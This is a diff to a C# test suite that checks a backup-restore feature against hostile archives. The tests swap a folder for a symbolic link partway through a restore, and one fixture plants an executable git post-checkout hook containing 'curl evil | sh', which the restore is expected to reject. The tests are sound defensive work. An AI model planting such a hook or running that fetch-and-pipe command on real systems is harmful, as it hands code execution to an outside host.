@@ -222,8 +222,10 @@ public sealed class HostileBackupTests : IDisposable
         AssertOutsideUntouched("secret");
     }
 
-    [Fact]
-    public void A_folder_swapped_for_a_link_during_the_restore_is_not_written_through()
+    [Theory]
+    [InlineData(40)] // while the safety backup reads what the restore replaces
+    [InlineData(60)] // while the files are swapped in
+    public void A_folder_swapped_for_a_link_during_the_restore_is_not_written_through(int atPercent)
     {
         using var p = Open();
         var b = p.Backups.Create(new BackupRequest { Components = new[] { "code" } }).Backup!;
@@ -232,7 +234,7 @@ public sealed class HostileBackupTests : IDisposable
         File.WriteAllText(Path.Combine(_outside, "src", "app.py"), "outside\n");
         void Swap(BackupProgress step)
         {
-            if (step.Status != "restoring files") return;
+            if (step.Percent != atPercent) return;
             Directory.Move(Path.Combine(_dir.Root, "src"), Path.Combine(_dir.Root, "src-moved"));
             Directory.CreateSymbolicLink(Path.Combine(_dir.Root, "src"), Path.Combine(_outside, "src"));
         }
@@ -286,6 +288,19 @@ public sealed class HostileBackupTests : IDisposable
         Assert.Contains(".fastband/", e.Message);
         Assert.False(Path.Exists(Path.Combine(_dir.StateDir, "backups", "manual", "planted")));
         Assert.False(File.Exists(Path.Combine(_dir.StateDir, "config.yaml")) && File.ReadAllText(Path.Combine(_dir.StateDir, "config.yaml")) == "hijacked");
+        Assert.Equal("print('hello')\n", Read("src/app.py"));
+    }
+
+    [Fact]
+    public void Entries_under_git_come_back_only_from_the_git_component()
+    {
+        CodeBackup(FileEntry("src/app.py", "print('old')\n"), FileEntry(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", (UnixFileMode)0b111_101_101));
+
+        using var p = Open();
+        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId }));
+        Assert.Equal("HostileArchive", e.ErrorId);
+        Assert.Contains("only the git component", e.Message);
+        Assert.False(Path.Exists(Path.Combine(_dir.Root, ".git")));
         Assert.Equal("print('hello')\n", Read("src/app.py"));
     }
 
